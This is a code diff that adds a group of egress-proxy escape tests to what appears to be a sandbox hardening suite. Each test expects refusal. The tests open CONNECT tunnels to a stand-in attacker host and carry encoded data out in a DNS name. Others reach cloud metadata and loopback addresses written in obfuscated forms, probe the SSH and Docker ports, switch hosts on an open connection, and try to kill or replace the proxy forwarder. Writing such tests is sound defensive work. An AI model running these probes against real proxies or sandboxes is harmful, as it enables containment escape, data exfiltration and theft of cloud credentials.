@@ -440,6 +440,56 @@ LEAVING = (
     ),
 )  # fmt: skip
 
+ASK = r"""
+def ask(*requests):
+    # The status lines that the proxy answers with, on one connection.
+    found = []
+    with socket.create_connection(("127.0.0.1", 3128), 10) as one:
+        for request in requests:
+            one.sendall(request.encode() + b"\r\n\r\n")
+            found.append(one.recv(65536).decode("latin-1").partition("\r\n")[0])
+    return " | ".join(found)
+def tunnel(address):
+    answer = ask(f"CONNECT {address} HTTP/1.1\r\nHost: {address}")
+    print("GOT IN" if " 200 " in answer else "refused:", address, answer)
+"""
+
+ALLOWLIST = (
+    Attempt(
+        "other-host", "reach a host that is not on the list", ASK + 'tunnel("evil.example:443")\ntunnel("198.51.100.1:443")',
+        ("evil.example:443 HTTP/1.1 403", "198.51.100.1:443 HTTP/1.1 403"), "the proxy's list",
+    ),
+    Attempt(
+        "dns-by-proxy", "carry data out in names that the proxy looks up", ASK + 'tunnel("c2VjcmV0LWRhdGE.evil.example:443")',
+        ("HTTP/1.1 403",), "refused before any look-up",
+    ),
+    Attempt(
+        "inside-by-proxy", "reach cloud metadata and the host's own services through the proxy, which runs on the host",
+        ASK + 'for address in ("169.254.169.254:80", "127.0.0.1:{port}", "localhost:{port}", "0.0.0.0:{port}", "[::1]:{port}", "[::ffff:127.0.0.1]:{port}",\n'
+        '        "2130706433:{port}", "0x7f.1:{port}"):\n    tunnel(address)',
+        (r"169.254.169.254:80 HTTP/1.1 403", r"127.0.0.1:\d+ HTTP/1.1 403", r"localhost:\d+ HTTP/1.1 403"), "the proxy's list, by name and by address",
+    ),
+    Attempt(
+        "other-port", "use another port of an allowed host", ASK + 'tunnel("{bridge}:22")\ntunnel("{bridge}:2375")',
+        (r":22 HTTP/1.1 403", r":2375 HTTP/1.1 403"), "a host is allowed with its ports",
+    ),
+    Attempt(
+        "second-request", "change the host on a connection that was allowed",
+        ASK + 'here = "GET http://{bridge}:{port}/ HTTP/1.1\\r\\nHost: x"\nprint(ask(here, "GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example"))',
+        (r"HTTP/1.1 200 \S+ \| HTTP/1.1 403",), "one host for each connection",
+    ),
+    Attempt(
+        "past-the-proxy", "connect without the proxy", 'attempt("direct", connect, "{bridge}", {port})', ("direct ENETUNREACH",), "no network, as with `none`",
+    ),
+    Attempt(
+        "forwarder", "end or replace what carries connections to the proxy",
+        'for pid in filter(str.isdigit, os.listdir("/proc")):\n    if os.stat("/proc/" + pid).st_uid == 65534:\n        attempt("kill", os.kill, int(pid), 9)\n'
+        'attempt("bind", socket.create_server, ("127.0.0.1", 3128))\nattempt("unlink", os.unlink, "/run/mlrbench/0/proxy.sock")\n'
+        'print("files", sorted(set(os.listdir("/run/mlrbench/0")) - {"ca.pem"}))',
+        ("kill EPERM", "bind EADDRINUSE", "unlink E(ROFS|ACCES)", r"files \['proxy.sock'\]"), "it runs as another user; the folder is mounted read-only",
+    ),
+)  # fmt: skip
+
 ATTEMPTS = (*HOST_FILES, *KERNEL, *PROCESSES, *NETWORK, *RESOURCES, *TIME)
 
 GROUPS = (
@@ -447,6 +497,7 @@ GROUPS = (
     ("Kernel and devices", KERNEL),
     ("Privileges and processes", PROCESSES),
     ("Network", NETWORK),
+    ("The allowlist's proxy", ALLOWLIST),
     ("The machine's resources", RESOURCES),
     ("Time-outs", TIME),
     ("The way out", LEAVING),
